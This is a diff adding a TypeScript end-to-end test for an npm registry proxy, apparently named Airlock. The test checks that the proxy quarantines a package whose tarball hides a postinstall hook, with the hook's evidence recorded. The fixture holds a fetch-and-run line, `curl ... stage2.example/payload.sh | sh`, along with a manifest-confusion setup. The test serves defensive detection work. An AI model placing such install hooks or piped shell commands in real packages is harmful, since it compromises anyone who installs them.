@@ -1,0 +1,77 @@
+/**
+ * Install-time behaviour with the real npm client and the default policy. The attack: a new,
+ * unknown package whose registry metadata shows no install script, while the tarball's own
+ * package.json runs `node scripts/setup.js` — and that file fetches a second stage and pipes it
+ * to a shell. The metadata phase has nothing to object to; the artifact phase reads the
+ * tarball's package.json and the file the hook runs, and quarantines with the evidence. A
+ * popular, long-established package with an ordinary install script still installs.
+ */
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import { daysAgo, editPackument, quarantineIdIn, signalsE2e } from './support.ts';
+
+const NAME = 'tiny-postinstall-helper';
+const SETUP = [
+  "const { execSync } = require('child_process');",
+  "execSync('curl -s https://stage2.example/payload.sh | sh');",
+  '',
+].join('\n');
+
+interface Finding {
+  rule: string;
+  severity: string;
+  source: string;
+  evidence: string;
+}
+
+test('install scripts: the tarball package.json and the files its hooks run are analysed; a new unknown package is quarantined with evidence', async (t) => {
+  const s = await signalsE2e({
+    packages: [
+      {
+        name: NAME,
+        versions: [
+          {
+            version: '1.0.0',
+            publishedAt: daysAgo(10),
+            manifest: { scripts: { postinstall: 'node scripts/setup.js' } },
+            files: [{ path: 'scripts/setup.js', content: SETUP }],
+          },
+        ],
+      },
+      { name: 'core-js', versions: [{ version: '3.40.0', publishedAt: daysAgo(300), manifest: { scripts: { postinstall: 'node -e "try{require(\'./postinstall\')}catch(e){}"' } } }] },
+    ],
+  });
+  t.after(() => s.close());
+  // The registry's metadata hides the script (manifest confusion): only the tarball has it.
+  await editPackument(s.registry, NAME, (doc) => {
+    const v = doc.versions['1.0.0'] as Record<string, unknown>;
+    delete v['scripts'];
+    delete v['hasInstallScript'];
+  });
+  const p = await s.project();
+
+  const meta = await s.api<{ verdict: string }>('GET', `check?purl=${encodeURIComponent(`pkg:npm/${NAME}@1.0.0`)}`);
+  assert.equal(meta.body.verdict, 'allow', 'nothing to object to in the metadata');
+
+  const held = await p.npm(['install', NAME]);
+  assert.notEqual(held.code, 0);
+  assert.match(held.output, /403 Forbidden - GET \S+tiny-postinstall-helper-1\.0\.0\.tgz - tiny-postinstall-helper@1\.0\.0 is quarantined by Airlock: /);
+  assert.match(held.output, /downloads content and pipes it into a shell or interpreter.*\[install_behaviour\.dangerous\]/);
+  assert.match(held.output, /runs install scripts \(postinstall\) and is new or not widely used \[install_behaviour\.unpopular\]/);
+  const id = quarantineIdIn(held.output);
+  assert.ok(id !== null, held.output);
+
+  const shown = await s.cli(['quarantine', 'show', id, '--format', 'json']);
+  assert.equal(shown.code, 0, shown.output);
+  const rec = JSON.parse(shown.stdout) as { facts: { install_behaviour: { hooks: { name: string; command: string }[]; findings: Finding[] }; tarball: { install_scripts: Record<string, string> } } };
+  assert.deepEqual(rec.facts.tarball.install_scripts, { postinstall: 'node scripts/setup.js' }, "evidence from the tarball's own package.json");
+  assert.deepEqual(rec.facts.install_behaviour.hooks.map((h) => [h.name, h.command]), [['postinstall', 'node scripts/setup.js']]);
+  const pipe = rec.facts.install_behaviour.findings.find((f) => f.rule === 'install.remote-exec.pipe-to-shell');
+  assert.ok(pipe !== undefined, JSON.stringify(rec.facts.install_behaviour.findings));
+  assert.deepEqual([pipe.severity, pipe.source], ['critical', 'scripts/setup.js'], 'found in the file the hook runs');
+  assert.match(pipe.evidence, /curl -s https:\/\/stage2\.example\/payload\.sh \| sh/);
+
+  const popular = await p.npm(['install', 'core-js']);
+  assert.equal(popular.code, 0, popular.output);
+  assert.equal((await p.readJson('node_modules/core-js/package.json'))['version'], '3.40.0');
+});
